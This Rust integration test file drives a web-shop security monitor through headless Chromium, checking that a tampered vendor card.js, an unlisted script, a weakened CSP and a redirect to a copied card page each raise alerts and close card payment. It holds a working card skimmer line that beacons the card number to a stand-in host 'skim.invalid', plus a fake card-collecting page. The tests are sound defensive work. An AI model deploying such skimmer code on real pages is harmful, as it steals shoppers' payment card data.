//! The browser monitor against the real shop, the real sandbox provider and Debian's headless
//! Chromium (notice 004): the provider's `card.js` altered at the "vendor" is seen within a few
//! walks, raises `script.changed` naming the provider's page and `card.js`, and closes card
//! payment; restoring the file does not reopen it; an owner's approval does, accepting the pages
//! as they are. On both databases.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::sync::Arc;
use std::time::{Duration, Instant};

use common::{Backend, TestShop};
use mamori_guard::files::{FileGuard, GuardKey, WatchSpec};
use mamori_guard::inventory::{shop_builtin, ScriptInventory};
use mamori_guard::monitor::{BrowserMonitor, MonitorConfig, ProviderProbe, Target};
use mamori_guard::{kinds, AlertConfig, Alerts};
use mamori_pay::url::Url;
use mamori_pay::{
    CreatePayment, CreatedPayment, HttpConnector, PayError, PaymentConnector, PaymentInfo,
    PaymentStatus, RefundInfo,
};
use mamori_store::{alert_state, observation_state, switch_state, AlertFilter, AlertRow, Records};
use mamori_testkit::both_backends;

/// The provider's genuine helper, as the sandbox has it built in.
const CARD_JS: &str = include_str!("../../mamori-pay/src/sandbox/card.js");

/// What the attacker appended at the vendor: the card number posted elsewhere.
const SKIMMER: &str = "document.addEventListener(\"submit\", function () { \
    navigator.sendBeacon(\"https://skim.invalid/c\", document.getElementById(\"number\").value); });\n";

const WAIT: Duration = Duration::from_secs(60);

async fn wait_until<F, Fut>(what: &str, mut cond: F)
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = bool>,
{
    let start = Instant::now();
    while !cond().await {
        assert!(start.elapsed() < WAIT, "timed out waiting for {what}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

async fn alerts_of(records: &Arc<dyn Records>, kind: &str) -> Vec<AlertRow> {
    records
        .alerts_page(
            &AlertFilter {
                state: None,
                kind: Some(kind.into()),
            },
            0,
            50,
        )
        .await
        .unwrap()
        .items
}

async fn card_payment(records: &Arc<dyn Records>) -> String {
    records
        .guard_switch(mamori_store::store::alerts::CARD_PAYMENT)
        .await
        .unwrap()
        .map_or_else(|| switch_state::OPEN.to_owned(), |s| s.state)
}

async fn good_hash(records: &Arc<dyn Records>, page: &str, script: &str) -> Option<String> {
    let row = records
        .observation(page, observation_state::GOOD)
        .await
        .unwrap()?;
    let scripts: serde_json::Value = serde_json::from_str(&row.scripts).unwrap();
    scripts[script].as_str().map(str::to_owned)
}

/// The shop's pages and the provider's card page through `connector`, every 2 s, with Debian's
/// Chromium.
fn monitor_config(shop_url: &Url, connector: Arc<dyn PaymentConnector>) -> MonitorConfig {
    let mut config = MonitorConfig::new(
        Target::shop_pages(shop_url, "/product/PT-1001"),
        Some(ProviderProbe {
            connector,
            return_url: shop_url.join("checkout/return").unwrap(),
            cancel_url: shop_url.join("checkout/cancel").unwrap(),
        }),
    );
    config.interval = Duration::from_secs(2);
    config.chromium = mamori_e2e::chromium_path();
    config
}

/// The real shop and sandbox, the sandbox serving `card.js` (and a drill's `headers` file) from
/// a folder of the test's own, with what every test here reads.
struct Drill {
    dir: tempfile::TempDir,
    shop: TestShop,
    records: Arc<dyn Records>,
    alerts: Alerts,
    shop_url: Url,
    sandbox: Url,
    /// The provider's card page as the monitor keys it.
    provider_page: String,
    /// The provider's `card.js` as the monitor keys it.
    script: String,
}

impl Drill {
    async fn start(backend: Backend) -> Self {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("card.js"), CARD_JS).unwrap();
        let shop =
            TestShop::start_with(backend, Duration::ZERO, Some(dir.path().to_path_buf())).await;
        let records = shop.store().clone();
        let alerts = Alerts::new(
            shop.gateway().clone(),
            AlertConfig {
                shop_name: "守り商店".into(),
                backoffice_origin: None,
                webhook: None,
            },
        );
        let shop_url = Url::parse(&format!("{}/", shop.base_url)).unwrap();
        let sandbox = Url::parse(&shop.sandbox_url).unwrap();
        let provider_page = format!("{sandbox}pay/{{payment}}");
        let script = sandbox.join("assets/card.js").unwrap().to_string();
        Self {
            dir,
            shop,
            records,
            alerts,
            shop_url,
            sandbox,
            provider_page,
            script,
        }
    }

    /// The sandbox's API, as the shop's connector.
    fn connector(&self) -> HttpConnector {
        HttpConnector::new(self.sandbox.clone(), self.shop.api_key.clone()).unwrap()
    }

    /// Writes the drill's `headers` file next to `card.js`.
    fn headers(&self, lines: &str) {
        std::fs::write(
            self.dir.path().join("headers"),
            format!("# drill\n{lines}\n"),
        )
        .unwrap();
    }
}

async fn an_altered_vendor_script_closes_card_payment_until_approved(backend: Backend) {
    let d = Drill::start(backend).await;
    let (dir, records, alerts) = (&d.dir, &d.records, &d.alerts);
    let (provider_page, script) = (&d.provider_page, &d.script);
    let card_js = dir.path().join("card.js");
    let config = monitor_config(&d.shop_url, Arc::new(d.connector()));
    let monitor = Arc::new(BrowserMonitor::new(config, alerts.clone()));
    let handle = monitor.spawn();

    // The first walk records every page as known-good, the provider's with its card.js.
    wait_until("the first observation of every page", || async {
        let mut all = good_hash(records, provider_page, script).await.is_some();
        for page in ["/", "/product/PT-1001", "/cart", "/checkout"] {
            all &= records
                .observation(page, observation_state::GOOD)
                .await
                .unwrap()
                .is_some();
        }
        all
    })
    .await;
    let genuine = good_hash(records, provider_page, script).await.unwrap();
    // Only the page's own scripts are recorded: on the provider's page, exactly card.js.
    let row = records
        .observation(provider_page, observation_state::GOOD)
        .await
        .unwrap()
        .unwrap();
    let scripts: serde_json::Value = serde_json::from_str(&row.scripts).unwrap();
    assert_eq!(
        scripts.as_object().unwrap().keys().collect::<Vec<_>>(),
        vec![script],
        "scripts recorded: {scripts}"
    );
    assert!(genuine.starts_with("sha384-"), "an SRI hash: {genuine}");
    assert_eq!(card_payment(records).await, switch_state::OPEN);

    // The vendor's file is altered, as in notice 004.
    std::fs::write(&card_js, format!("{CARD_JS}{SKIMMER}")).unwrap();
    wait_until("script.changed on the provider's page", || async {
        !alerts_of(records, kinds::SCRIPT_CHANGED).await.is_empty()
    })
    .await;
    let changed = alerts_of(records, kinds::SCRIPT_CHANGED).await;
    assert_eq!(changed.len(), 1, "one alert for one change");
    let alert = &changed[0];
    assert_eq!(alert.subject, format!("page:{provider_page}"));
    assert_eq!(alert.severity, "critical");
    let evidence: serde_json::Value = serde_json::from_str(&alert.evidence).unwrap();
    assert_eq!(evidence["script"], script.as_str());
    assert!(evidence["script"].as_str().unwrap().ends_with("/card.js"));
    assert_eq!(evidence["expected_sha384"], genuine.as_str());
    let found = evidence["found_sha384"].as_str().unwrap();
    assert!(found.starts_with("sha384-") && found != genuine);
    assert_eq!(evidence["closes_card_payment"], true);
    assert_eq!(card_payment(records).await, switch_state::CLOSED);
    // The shop's own pages did not change: nothing else was raised about them.
    for kind in [
        kinds::SCRIPT_ADDED,
        kinds::SCRIPT_REMOVED,
        kinds::FORM_ACTION,
    ] {
        let other = alerts_of(records, kind).await;
        assert!(other.is_empty(), "unexpected {kind}: {other:?}");
    }

    // Restoring the file does not reopen payment.
    std::fs::write(&card_js, CARD_JS).unwrap();
    wait_until("a walk that sees the restored file", || async {
        records
            .observation(provider_page, observation_state::PENDING)
            .await
            .unwrap()
            .is_none()
    })
    .await;
    assert_eq!(card_payment(records).await, switch_state::CLOSED);

    // A legitimate update of the vendor's helper is approved by an owner: the page as it is
    // becomes known-good, the monitor's alerts close and card payment reopens.
    let update = format!("{CARD_JS}// v2\n");
    std::fs::write(&card_js, &update).unwrap();
    wait_until("the update pending", || async {
        records
            .observation(provider_page, observation_state::PENDING)
            .await
            .unwrap()
            .is_some()
    })
    .await;
    let key = GuardKey::create(&dir.path().join("guard.key")).unwrap();
    let guard = FileGuard::without_baseline(
        WatchSpec::default(),
        dir.path().join("guard-baseline.json"),
        key,
        alerts.clone(),
    );
    guard
        .approve(
            "owner-1",
            "提供元の更新を確認しました（作業票 11）",
            "req-1",
        )
        .await
        .unwrap();
    assert_eq!(card_payment(records).await, switch_state::OPEN);
    let closed = alerts_of(records, kinds::SCRIPT_CHANGED).await;
    assert!(closed.iter().all(|a| a.state == alert_state::CLOSED));
    let approved = good_hash(records, provider_page, script).await.unwrap();
    assert_ne!(approved, genuine, "the update is the known-good state now");
    drop(handle);
}

/// The real sandbox connector, remembering the payments it created (the monitor's probes).
struct Recording {
    inner: HttpConnector,
    created: std::sync::Mutex<Vec<String>>,
}

#[async_trait::async_trait]
impl PaymentConnector for Recording {
    async fn create_payment(&self, req: &CreatePayment) -> Result<CreatedPayment, PayError> {
        let created = self.inner.create_payment(req).await?;
        self.created
            .lock()
            .unwrap()
            .push(created.payment_id.clone());
        Ok(created)
    }
    async fn lookup(&self, payment_id: &str) -> Result<PaymentInfo, PayError> {
        self.inner.lookup(payment_id).await
    }
    async fn refund(
        &self,
        payment_id: &str,
        amount_jpy: i64,
        idempotency_key: &str,
    ) -> Result<RefundInfo, PayError> {
        self.inner
            .refund(payment_id, amount_jpy, idempotency_key)
            .await
    }
    async fn cancel(&self, payment_id: &str) -> Result<PaymentInfo, PayError> {
        self.inner.cancel(payment_id).await
    }
}

/// With the script inventory (PCI DSS 6.4.3): the first walk lists the provider's `card.js` for
/// its card page; the shop's pages run only listed scripts; the altered `card.js` is a script the
/// inventory does not list, raised as `script.not_listed` and closing card payment.
async fn the_monitor_checks_every_script_against_the_inventory(backend: Backend) {
    let d = Drill::start(backend).await;
    let (dir, records) = (&d.dir, &d.records);
    let (provider_page, script) = (&d.provider_page, &d.script);
    let card_js = dir.path().join("card.js");
    let inventory = ScriptInventory::new(d.alerts.clone(), Arc::default());
    inventory.seed(&[shop_builtin()]).await.unwrap();
    let connector = Arc::new(Recording {
        inner: d.connector(),
        created: std::sync::Mutex::default(),
    });
    let config = monitor_config(&d.shop_url, connector.clone());
    let monitor =
        Arc::new(BrowserMonitor::new(config, d.alerts.clone()).with_inventory(inventory.clone()));
    let handle = monitor.spawn();

    wait_until("the provider's card.js listed", || async {
        records.script_get(script).await.unwrap().is_some()
    })
    .await;
    let genuine = good_hash(records, provider_page, script).await.unwrap();
    let entry = records.script_get(script).await.unwrap().unwrap();
    assert_eq!(entry.site, "provider");
    assert_eq!(entry.pages, "/pay/{payment}");
    assert_eq!(format!("sha384-{}", entry.sha384), genuine);
    assert_eq!(entry.changed_by, "system");
    // Every shop page was walked and ran only listed scripts.
    wait_until("every shop page observed", || async {
        let mut all = true;
        for page in ["/", "/product/PT-1001", "/cart", "/checkout"] {
            all &= records
                .observation(page, observation_state::GOOD)
                .await
                .unwrap()
                .is_some();
        }
        all
    })
    .await;
    assert!(alerts_of(records, kinds::SCRIPT_NOT_LISTED)
        .await
        .is_empty());
    assert_eq!(card_payment(records).await, switch_state::OPEN);
    // The monitor's 1-yen payment of that walk is cancelled at the provider once the walk ends.
    let first = connector.created.lock().unwrap()[0].clone();
    wait_until("the monitor's payment cancelled", || async {
        connector.lookup(&first).await.unwrap().status == PaymentStatus::Canceled
    })
    .await;

    std::fs::write(&card_js, format!("{CARD_JS}{SKIMMER}")).unwrap();
    wait_until("script.not_listed on the provider's page", || async {
        !alerts_of(records, kinds::SCRIPT_NOT_LISTED)
            .await
            .is_empty()
    })
    .await;
    let raised = alerts_of(records, kinds::SCRIPT_NOT_LISTED).await;
    assert_eq!(raised.len(), 1);
    assert_eq!(raised[0].subject, format!("page:{provider_page}"));
    assert_eq!(raised[0].severity, "critical");
    let evidence: serde_json::Value = serde_json::from_str(&raised[0].evidence).unwrap();
    assert_eq!(evidence["script"], script.as_str());
    assert_ne!(evidence["found_sha384"], genuine.as_str());
    assert_eq!(card_payment(records).await, switch_state::CLOSED);
    drop(handle);
}

/// The provider's card page's headers: the sandbox's `headers` file (next to `card.js`) makes it
/// send a CSP that allows scripts from another host, as an attacker with the vendor's server
/// would. The monitor recorded the genuine headers and origin at the first walk; the weakened CSP
/// raises `page.headers` and closes card payment.
async fn a_weakened_csp_on_the_providers_page_closes_card_payment(backend: Backend) {
    let d = Drill::start(backend).await;
    let (records, sandbox, provider_page) = (&d.records, &d.sandbox, &d.provider_page);
    let config = monitor_config(&d.shop_url, Arc::new(d.connector()));
    let handle = Arc::new(BrowserMonitor::new(config, d.alerts.clone())).spawn();

    wait_until("the provider's page observed", || async {
        records
            .observation(provider_page, observation_state::GOOD)
            .await
            .unwrap()
            .is_some()
    })
    .await;
    let good = records
        .observation(provider_page, observation_state::GOOD)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        good.final_origin.as_deref(),
        Some(sandbox.origin().ascii_serialization().as_str())
    );
    let headers: serde_json::Value =
        serde_json::from_str(good.headers.as_deref().unwrap()).unwrap();
    assert_eq!(headers["x-frame-options"], "DENY");
    assert_eq!(headers["referrer-policy"], "no-referrer");
    let csp = headers["content-security-policy"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(csp.contains("script-src 'self';"), "{csp}");
    // The shop's checkout sends a fresh nonce on every response: recorded masked, so the
    // walks after the first raise nothing about the shop's headers.
    wait_until("the checkout observed", || async {
        records
            .observation("/checkout", observation_state::GOOD)
            .await
            .unwrap()
            .is_some()
    })
    .await;
    assert_eq!(card_payment(records).await, switch_state::OPEN);

    let weak = csp.replace(
        "script-src 'self';",
        "script-src 'self' https://skim.invalid;",
    );
    d.headers(&format!("Content-Security-Policy: {weak}"));
    wait_until("page.headers on the provider's page", || async {
        !alerts_of(records, kinds::PAGE_HEADERS).await.is_empty()
    })
    .await;
    let raised = alerts_of(records, kinds::PAGE_HEADERS).await;
    assert_eq!(raised.len(), 1, "{raised:?}");
    assert_eq!(raised[0].subject, format!("page:{provider_page}"));
    assert_eq!(raised[0].severity, "critical");
    let evidence: serde_json::Value = serde_json::from_str(&raised[0].evidence).unwrap();
    assert_eq!(evidence["header"], "content-security-policy");
    assert_eq!(evidence["expected"], csp.as_str());
    assert_eq!(evidence["found"], weak.as_str());
    assert_eq!(evidence["closes_card_payment"], true);
    assert_eq!(card_payment(records).await, switch_state::CLOSED);
    assert!(alerts_of(records, kinds::PAGE_REDIRECT).await.is_empty());
    // Every walk's observation is in the page's history, newest first: the weakened CSP is the
    // newest, the genuine one is further back, all on the provider's origin.
    let history = records
        .observation_history(provider_page, 100)
        .await
        .unwrap();
    assert!(history.len() >= 2, "{} observations", history.len());
    assert!(history[0]
        .headers
        .as_deref()
        .unwrap()
        .contains("skim.invalid"));
    assert!(!history
        .last()
        .unwrap()
        .headers
        .as_deref()
        .unwrap()
        .contains("skim.invalid"));
    assert!(history.iter().all(|o| o.final_origin == good.final_origin));
    assert!(history.iter().all(|o| o.state == observation_state::SEEN));
    drop(handle);
}

/// The provider's card page redirected to a copy on another origin (the drill's `headers` file
/// gives it a `Location`): the walk ends on the copy's origin, raises `page.redirect` naming both
/// origins, and closes card payment.
async fn a_card_page_sent_elsewhere_closes_card_payment(backend: Backend) {
    // The attacker's copy of the card page, on an origin of its own.
    let copy = axum::Router::new().route(
        "/pay/{id}",
        axum::routing::get(|| async {
            axum::response::Html(
                "<!doctype html><html lang=\"ja\"><body><form method=\"post\" \
                 action=\"/collect\"><input id=\"number\" name=\"number\"></form></body></html>",
            )
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let copy_origin = format!("http://localhost:{}", listener.local_addr().unwrap().port());
    let server = tokio::spawn(async move { axum::serve(listener, copy).await });

    let d = Drill::start(backend).await;
    let (records, sandbox, provider_page) = (&d.records, &d.sandbox, &d.provider_page);
    let config = monitor_config(&d.shop_url, Arc::new(d.connector()));
    let handle = Arc::new(BrowserMonitor::new(config, d.alerts.clone())).spawn();
    wait_until("the provider's page observed", || async {
        records
            .observation(provider_page, observation_state::GOOD)
            .await
            .unwrap()
            .is_some()
    })
    .await;
    assert_eq!(card_payment(records).await, switch_state::OPEN);

    d.headers(&format!("Location: {copy_origin}/pay/copy"));
    wait_until("page.redirect on the provider's page", || async {
        !alerts_of(records, kinds::PAGE_REDIRECT).await.is_empty()
    })
    .await;
    let raised = alerts_of(records, kinds::PAGE_REDIRECT).await;
    assert_eq!(raised.len(), 1, "{raised:?}");
    assert_eq!(raised[0].subject, format!("page:{provider_page}"));
    assert_eq!(raised[0].severity, "critical");
    let evidence: serde_json::Value = serde_json::from_str(&raised[0].evidence).unwrap();
    assert_eq!(
        evidence["expected_origin"],
        sandbox.origin().ascii_serialization().as_str()
    );
    assert_eq!(evidence["found_origin"], copy_origin.as_str());
    assert_eq!(evidence["closes_card_payment"], true);
    assert_eq!(card_payment(records).await, switch_state::CLOSED);
    drop(handle);
    server.abort();
}

both_backends!(
    an_altered_vendor_script_closes_card_payment_until_approved,
    the_monitor_checks_every_script_against_the_inventory,
    a_weakened_csp_on_the_providers_page_closes_card_payment,
    a_card_page_sent_elsewhere_closes_card_payment
);
